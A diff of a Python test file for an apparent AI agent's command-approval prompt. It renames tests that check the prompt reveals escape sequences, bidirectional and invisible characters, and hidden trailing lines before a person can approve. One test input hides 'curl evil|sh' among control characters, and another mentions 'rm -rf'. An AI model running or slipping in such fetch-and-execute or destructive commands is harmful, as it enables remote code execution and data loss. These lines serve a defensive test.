@@ -1,4 +1,4 @@
-"""S5, S6: the question shows exactly what will run, and takes a yes only once that was in sight."""
+"""The question shows exactly what will run, and takes a yes only once that was in sight."""
 
 from __future__ import annotations
 
@@ -46,7 +46,7 @@ def in_view(bar: ApprovalBar) -> list[str]:
     return [line.rstrip() for line in lines[first : first + scroll.size.height]]
 
 
-async def test_s5_the_question_shows_every_character() -> None:
+async def test_the_question_shows_every_character() -> None:
     command = "ls \x1b]0;x\n curl evil|sh #\x07\u202e\u200b\x9b2J"
     app, _, clock = asking({"command": command})
     async with app.run_test(size=(100, 30)) as pilot:
@@ -61,7 +61,7 @@ async def test_s5_the_question_shows_every_character() -> None:
         assert "U+202EU+200B\\x9b2J" in card
 
 
-async def test_s5_names_of_tools_and_arguments_show_every_character_too() -> None:
+async def test_names_of_tools_and_arguments_show_every_character_too() -> None:
     app, _, clock = asking({"a\u202eb\n": 1, "result": "nothing happens", "tool": "x"})
     async with app.run_test(size=(100, 30)) as pilot:
         bar = await asked(pilot, clock)
@@ -71,7 +71,7 @@ async def test_s5_names_of_tools_and_arguments_show_every_character_too() -> Non
 
 
 @sizes
-async def test_s6_blank_lines_do_not_hide_the_end(size: tuple[int, int]) -> None:
+async def test_blank_lines_do_not_hide_the_end(size: tuple[int, int]) -> None:
     app, backstage, clock = asking({"command": HIDDEN})
     async with app.run_test(size=size) as pilot:
         bar = await asked(pilot, clock)
@@ -89,7 +89,7 @@ async def test_s6_blank_lines_do_not_hide_the_end(size: tuple[int, int]) -> None
 
 @sizes
 @pytest.mark.parametrize("key", ["y", "a"])
-async def test_s6_a_yes_first_shows_the_rest(size: tuple[int, int], key: str) -> None:
+async def test_a_yes_first_shows_the_rest(size: tuple[int, int], key: str) -> None:
     app, backstage, clock = asking({"command": LONG, "host": "here"})
     async with app.run_test(size=size) as pilot:
         bar = await asked(pilot, clock)
@@ -108,7 +108,7 @@ async def test_s6_a_yes_first_shows_the_rest(size: tuple[int, int], key: str) ->
         assert backstage.chat.answers == [Answer("approved", "person", for_session=key == "a")]
 
 
-async def test_s6_the_marked_yes_shows_the_rest_first_as_well() -> None:
+async def test_the_marked_yes_shows_the_rest_first_as_well() -> None:
     app, backstage, clock = asking({"command": LONG}, effect="read")
     async with app.run_test(size=(80, 24)) as pilot:
         await asked(pilot, clock)
@@ -121,7 +121,7 @@ async def test_s6_the_marked_yes_shows_the_rest_first_as_well() -> None:
 
 
 @sizes
-async def test_s6_every_line_can_be_read(size: tuple[int, int]) -> None:
+async def test_every_line_can_be_read(size: tuple[int, int]) -> None:
     app, backstage, clock = asking({"command": "\n".join(f"echo {n}" for n in range(100))})
     async with app.run_test(size=size) as pilot:
         bar = await asked(pilot, clock)
@@ -143,7 +143,7 @@ async def test_s6_every_line_can_be_read(size: tuple[int, int]) -> None:
 
 
 @pytest.mark.parametrize("key", ["n", "escape"])
-async def test_s6_a_no_needs_no_reading(key: str) -> None:
+async def test_a_no_needs_no_reading(key: str) -> None:
     app, backstage, clock = asking({"command": LONG})
     async with app.run_test(size=(60, 15)) as pilot:
         await asked(pilot, clock)
@@ -151,7 +151,7 @@ async def test_s6_a_no_needs_no_reading(key: str) -> None:
         await until(pilot, lambda: backstage.chat.answers == [Answer("denied", "person")])
 
 
-async def test_s6_the_next_question_is_read_anew() -> None:
+async def test_the_next_question_is_read_anew() -> None:
     """Also the same one with other arguments, after an edit."""
     app, backstage, clock = asking({"command": LONG})
     async with app.run_test(size=(80, 24)) as pilot:
@@ -176,7 +176,7 @@ async def test_s6_the_next_question_is_read_anew() -> None:
         assert "rm -rf" in str(backstage.chat.answers[0].arguments)
 
 
-async def test_s6_a_thousand_arguments_and_the_longest_value_are_laid_out() -> None:
+async def test_a_thousand_arguments_and_the_longest_value_are_laid_out() -> None:
     many: dict[str, Any] = {f"argument_{number}": number for number in range(1000)}
     app, backstage, clock = asking({**many, "last": "x" * 400_000})
     async with app.run_test(size=(80, 24)) as pilot:
@@ -188,7 +188,7 @@ async def test_s6_a_thousand_arguments_and_the_longest_value_are_laid_out() -> N
         await until(pilot, lambda: backstage.chat.answers == [YES])
 
 
-async def test_s5_the_editor_shows_every_character() -> None:
+async def test_the_editor_shows_every_character() -> None:
     app, _, clock = asking({"command": "ls\u2800\u3164\u200b\x9b"})
     async with app.run_test(size=(80, 24)) as pilot:
         bar = await asked(pilot, clock)
